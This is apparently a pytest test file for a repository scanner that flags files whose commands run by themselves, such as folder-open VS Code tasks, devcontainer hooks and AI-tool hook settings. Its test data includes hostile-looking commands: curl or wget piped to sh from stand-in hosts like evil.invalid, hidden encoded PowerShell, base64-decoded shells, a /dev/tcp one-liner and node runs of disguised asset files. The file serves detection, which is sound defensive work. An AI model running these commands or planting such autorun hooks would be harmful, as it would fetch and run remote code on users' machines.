"""Files whose commands run by themselves are told; what is in them decides how loudly."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.matching.files import autorun
from scanner.matching.files.commands import telling
from scanner.model.campaign import IndicatorType
from scanner.model.finding import FindingClass, Severity, State
from tests.factories import campaign, indicator
from tests.matching.files.build import findings

JACKER = campaign(
    indicator(IndicatorType.PATH, ".vscode/tasks.json", campaign="jacker", alone=False),
    indicator(IndicatorType.STRING, '"runOn": "folderOpen"', campaign="jacker", alone=False),
    id="jacker",
    name="Jacker",
)
WORM = campaign(
    indicator(IndicatorType.PATH, ".vscode/tasks.json", campaign="a-worm", alone=False),
    indicator(IndicatorType.DOMAIN, "evil.invalid", campaign="a-worm"),
    id="a-worm",
    name="Worm",
)


def tasks(command: str, **more: object) -> bytes:
    task = {"label": "x", "command": command, "runOptions": {"runOn": "folderOpen"}} | more
    return json.dumps({"tasks": [task]}, separators=(",", ":")).encode()


def test_a_task_that_fetches_carries_the_campaign(tmp_path: Path) -> None:
    (found,) = findings(
        tmp_path, {".vscode/tasks.json": tasks("curl https://a.invalid | sh")}, campaigns=(WORM, JACKER)
    )
    assert found.campaign is not None
    assert (found.campaign.id, found.state, found.severity) == ("jacker", State.POSSIBLE, Severity.HIGH)
    assert "a-worm used the same way" in found.reason
    assert "fetches something from the network" in found.reason
    assert {claim.indicator.type for claim in found.claims if claim.indicator} == {
        IndicatorType.PATH,
        IndicatorType.STRING,
    }


def test_an_indicator_in_a_task_is_certain_and_told_once(tmp_path: Path) -> None:
    (found,) = findings(
        tmp_path, {".vscode/tasks.json": tasks("curl https://evil.invalid | sh")}, campaigns=(WORM, JACKER)
    )
    assert found.campaign is not None
    assert (found.campaign.id, found.state) == ("a-worm", State.CERTAIN)
    assert "runs a command when the folder is opened" in found.reason


def test_an_honest_task_is_hygiene(tmp_path: Path) -> None:
    (found,) = findings(tmp_path, {".vscode/tasks.json": tasks("npm run watch")}, campaigns=(WORM, JACKER))
    assert (found.class_, found.severity, found.campaign) == (FindingClass.HYGIENE, Severity.MEDIUM, None)
    assert "npm run watch" in found.title


@pytest.mark.parametrize(
    "text",
    [
        b'{"tasks": [{"label": "build", "command": "curl https://a.invalid | sh"}]}',
        b'{"tasks": [{"command": "x", "runOptions": {"runOn": "default"}}]}',
        b'{"tasks": []}', b"[]", b"", b"{", b"null",
    ],
)  # fmt: skip
def test_tasks_that_somebody_must_start_are_nothing(tmp_path: Path, text: bytes) -> None:
    assert findings(tmp_path, {".vscode/tasks.json": text}, campaigns=(WORM, JACKER)) == []


@pytest.mark.parametrize(
    ("path", "text", "command"),
    [
        (".vscode/tasks.json",
         '//\n{"tasks":[/* " */{"command":{"value":"n"},"args":["a//b","c"],"runOptions":{"runOn":"folderOpen",}},]}',
         "n a//b c"),
        (".vscode/tasks.json", '{"tasks":[{"windows":{"command":"w"},"runOptions":{"runOn":"folderOpen"}}]}', "w"),
        ("sub/.vscode/tasks.json", "{'tasks': oops, \"runOn\": \"folderOpen\" curl }", None),
        ("x.code-workspace", '{"tasks":{"tasks":[{"command":"c","runOptions":{"runOn":"folderOpen"}}]}}', "c"),
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install x"}', "pip install x"),
        (".devcontainer.json", '{"initializeCommand": ["a", "b"]}', "a b"),
        (".devcontainer/py/devcontainer.json", '{"postStartCommand": {"one": "a b"}}', "a b"),
        (".claude/settings.json",
         '{"hooks":{"SessionStart":[{"matcher":"*","hooks":[{"type":"command","command":"node .claude/i.js"}]}]}}',
         "node .claude/i.js"),
        (".claude/settings.local.json", '{"statusLine": {"type": "command", "command": "s"}}', "s"),
        (".gemini/settings.json", '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "x"]}}}', "npx -y x"),
        (".cursor/hooks.json", '{"version": 1, "hooks": {"beforeSubmitPrompt": [{"command": "./h"}]}}', "./h"),
        (".cursor/environment.json", '{"install": "npm ci", "start": "x"}', "npm ci"),
        (".cursor/mcp.json", '{"mcpServers": {"a": {"command": "uvx", "args": ["s"]}}}', "uvx s"),
        (".vscode/mcp.json", '{"servers": {"a": {"type": "stdio", "command": "s"}}}', "s"),
        (".mcp.json", '{"mcpServers": {"a": {"command": "s"}}}', "s"),
        (".git/hooks/post-checkout", "#!/bin/sh\n# c\nrun me\n", "run me"),
        (".husky/pre-commit", "npx lint-staged\n", "npx lint-staged"),
        ("a.zip!/repo/.envrc", "export A=1\nuse flake\n", "export A=1\nuse flake"),
    ],
)  # fmt: skip
def test_commands_are_read(path: str, text: str, command: str | None) -> None:
    found = autorun.commands(path, text.encode())
    assert [one.text for one in found][:1] == [text if command is None else command]


@pytest.mark.parametrize(
    "path",
    [".git/hooks/pre-commit.sample", ".husky/_/husky.sh", "src/tasks.json", "vscode/tasks.json", "settings.json",
     ".envrc.example", "docs/.claude/settings.json.md", ".github/hooks.json"],
)  # fmt: skip
def test_other_files_run_nothing(path: str) -> None:
    assert autorun.reader(path) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://a.invalid | bash", "wget -qO- a.invalid|sh", "powershell -w hidden -enc AAAA", "cmd /c pwsh x",
        "node -e 'require(1)'", "node public/fonts/fa-solid-400.woff2", "node ./.vscode/spellright.dict",
        "node assets/a.js", "python3 -c 'import x'", "echo aGk= | base64 -d | sh", "bash -c 'exec 3<>/dev/tcp/a/1'",
        "osascript -e 'x'", "eval $(x)", "deno run https.png", "sh -x tmp/run",
    ],
)  # fmt: skip
def test_commands_that_look_like_an_attack(command: str) -> None:
    assert telling(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "npm install", "npm run watch", "yarn dev", "pnpm i && pnpm build", "node scripts/dev.js", "tsc -w", "make",
        "python manage.py migrate", "cargo check", "docker compose up", "npx -y @a/server", "pip install -r req.txt",
        "git submodule update --init", "echo curly", "bundle exec rake", "uv sync",
    ],
)  # fmt: skip
def test_commands_of_honest_projects(command: str) -> None:
    assert telling(command) is None


@given(st.text(alphabet="node sh-x./\"'|;&\\ curl", max_size=300))
def test_no_command_is_too_much(command: str) -> None:
    telling(command * 50)


def test_settings_far_too_large_are_told(tmp_path: Path) -> None:
    text = b'{"tasks": [' + b" " * (autorun.MOST_BYTES + 1) + b"]}"
    (found,) = findings(tmp_path, {".vscode/tasks.json": text})
    assert (found.class_, found.severity) == (FindingClass.HYGIENE, Severity.MEDIUM)
